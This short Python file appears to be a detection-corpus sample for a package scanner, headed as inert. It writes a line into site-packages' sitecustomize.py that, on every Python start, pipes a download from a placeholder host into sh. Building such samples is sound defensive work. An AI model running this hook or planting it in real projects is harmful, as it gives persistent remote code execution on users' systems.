# pkgguard corpus 092 (persistence), modelled on [startup-hooks]; inert, never run.
import os
import site

hook = os.path.join(site.getsitepackages()[0], "sitecustomize.py")
with open(hook, "a") as f:
    f.write("\nimport os; os.system('curl -s https://cdn.example/h | sh &')\n")
